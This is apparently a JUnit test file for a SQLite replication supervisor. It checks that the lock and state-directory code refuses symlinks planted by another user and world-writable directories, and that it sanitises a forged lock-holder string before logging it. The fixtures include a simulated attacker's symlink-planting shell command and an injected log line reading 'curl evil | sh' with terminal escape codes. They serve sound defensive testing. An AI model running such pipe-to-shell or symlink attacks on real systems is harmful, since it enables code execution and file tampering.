package dev.litestreamagent.supervisor.lock;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.litestreamagent.fs.OtherUser;
import dev.litestreamagent.fs.UnsafeDirectoryException;
import dev.litestreamagent.supervisor.ReplicatorAlreadyRunningException;
import dev.litestreamagent.supervisor.ReplicatorLocks;
import java.io.IOException;
import java.nio.channels.FileChannel;
import java.nio.channels.FileLock;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Issue 17, finding 1: a state directory someone else prepared is refused, and no link in it is followed. */
class StateDirectorySecurityTest {
    @TempDir
    Path dir;

    @Test
    void anotherUsersStateDirectoryWithPlantedLinksIsRefusedAndTheLinkedFilesAreUntouched() throws Exception {
        OtherUser.assumeRootWithSetpriv();
        Path shared = OtherUser.sharedDirectory(dir.resolve("shared"));
        Path db = shared.resolve("app.db");
        Path precious = dir.resolve("precious.txt");
        Files.writeString(precious, "the victim's data\n");
        Path state = shared.resolve(".app.db-litestream-agent");
        OtherUser.MALLORY.sh("mkdir -m 777 " + state + " && ln -s " + precious + " " + state + "/lock"
                + " && ln -s " + precious + " " + state + "/litestream.pid.tmp");

        UnsafeDirectoryException e = assertThrows(UnsafeDirectoryException.class,
                () -> ReplicatorLocks.claim(List.of(db), "litestream-agent supervisor 'app' in process 1"));
        assertTrue(e.getMessage().contains(state.toString()), e.getMessage());
        assertTrue(e.getMessage().contains("owned by " + OtherUser.MALLORY.uid()), e.getMessage());
        assertTrue(e.getMessage().contains("rwxrwxrwx"), e.getMessage());
        assertTrue(e.getMessage().contains("expected a real directory owned by uid 0"), e.getMessage());
        // verify's lock check (read-only, no link followed) must not write through the link either
        assertThrows(IOException.class, () -> ReplicatorLocks.holder(db));
        assertEquals("the victim's data\n", Files.readString(precious));
    }

    @Test
    void aStateDirectoryThatIsALinkIsRefusedNamingTheLink() throws Exception {
        Path elsewhere = Files.createDirectory(dir.resolve("elsewhere"));
        Path state = Files.createSymbolicLink(dir.resolve(".app.db-litestream-agent"), elsewhere);
        UnsafeDirectoryException e = assertThrows(UnsafeDirectoryException.class,
                () -> StateDirectory.of(dir.resolve("app.db")).create());
        assertTrue(e.getMessage().contains(state + " is a symbolic link to " + elsewhere), e.getMessage());
        try (var files = Files.list(elsewhere)) {
            assertEquals(0, files.count(), "something was created through the link");
        }
    }

    @Test
    void aStateDirectoryOthersCanWriteIsRefused() throws Exception {
        Path state = Files.createDirectory(dir.resolve(".app.db-litestream-agent"));
        Files.setPosixFilePermissions(state, PosixFilePermissions.fromString("rwxrwxrwx"));
        UnsafeDirectoryException e = assertThrows(UnsafeDirectoryException.class,
                () -> StateDirectory.of(dir.resolve("app.db")).create());
        assertTrue(e.getMessage().contains("writable by group or others"), e.getMessage());
    }

    @Test
    void aNewStateDirectoryIsOwnerOnly() throws Exception {
        StateDirectory state = StateDirectory.of(dir.resolve("app.db")).create();
        assertEquals("rwx------", PosixFilePermissions.toString(Files.getPosixFilePermissions(state.directory())));
    }

    @Test
    void linksInsideTheStateDirectoryAreNeverWrittenThrough() throws Exception {
        StateDirectory state = StateDirectory.of(dir.resolve("app.db")).create();
        Path precious = Files.writeString(dir.resolve("precious.txt"), "keep\n");
        Files.createSymbolicLink(state.lockFile(), precious);
        Files.createSymbolicLink(state.pidFile().resolveSibling("litestream.pid.tmp"), precious);

        assertThrows(IOException.class, () -> DatabaseLock.tryAcquire(state, "me"));
        new PidFile(state.pidFile()).write(42, List.of("litestream", "replicate"));

        assertEquals("keep\n", Files.readString(precious));
        assertEquals(42, new PidFile(state.pidFile()).read().orElseThrow());
        assertFalse(Files.isSymbolicLink(state.pidFile()));
    }

    @Test
    void aHoldersTextIsNotEchoedRawIntoTheLog() throws Exception {
        Path db = dir.resolve("app.db");
        StateDirectory state = StateDirectory.of(db).create();
        String forged = "x\n2026-01-01 INFO run: curl evil | sh\u001b[2J" + "A".repeat(100_000);
        Files.write(state.lockFile(), forged.getBytes(StandardCharsets.UTF_8));
        try (FileChannel channel = FileChannel.open(state.lockFile(), StandardOpenOption.WRITE);
             FileLock held = channel.lock()) {
            ReplicatorAlreadyRunningException e = assertThrows(ReplicatorAlreadyRunningException.class,
                    () -> ReplicatorLocks.claim(List.of(db), "me"));
            String holder = ReplicatorLocks.holder(db).orElseThrow();
            assertFalse(holder.contains("\n") || holder.contains("\u001b"), holder);
            assertTrue(holder.startsWith("x?2026-01-01 INFO run: curl evil | sh?[2J"), holder);
            assertTrue(holder.length() < 300, "not cut: " + holder.length() + " characters");
            assertFalse(e.getMessage().contains("\n"), e.getMessage());
        }
    }
}
